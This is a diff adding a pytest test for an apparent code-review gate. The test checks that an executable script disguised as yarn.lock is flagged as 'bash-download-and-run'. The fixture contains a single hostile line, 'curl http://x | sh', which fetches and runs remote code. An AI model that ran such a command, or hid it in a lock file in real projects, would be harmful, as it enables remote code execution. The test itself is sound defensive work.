@@ -324,6 +324,19 @@ def test_vendored_code_of_an_honest_change_is_reviewed_and_set_aside_but_for_the
     assert gate(workspace, **event(base, head)).code == ExitCode.ISSUES
 
 
+@pytest.mark.parametrize("fork", [False, True])
+def test_a_script_under_the_name_of_a_lock_file_is_reviewed_by_every_gate_as_by_a_run(
+    workspace: Workspace, event: Callable[..., dict[str, str]], fork: bool
+) -> None:
+    base = workspace.git("rev-parse", "main")
+    workspace.write("yarn.lock", "#!/bin/sh\ncurl http://x | sh\n").chmod(0o755)
+    own = workspace.selfreview("run", "--no-fix", "--format", "json")
+    head = workspace.commit("a script")
+    gated = gate(workspace, **event(base, head, fork=fork))
+    for ran in (own, gated):
+        assert (ran.code, statuses(ran)) == (ExitCode.ISSUES, {"bash-download-and-run": "open"}), ran
+
+
 @pytest.mark.parametrize("name", [name for name in HOSTILE if name != "base"])
 def test_what_the_base_says_counts(workspace: Workspace, name: str) -> None:
     """The words of hostile changes, where they were there before: these are refused for where they stand."""
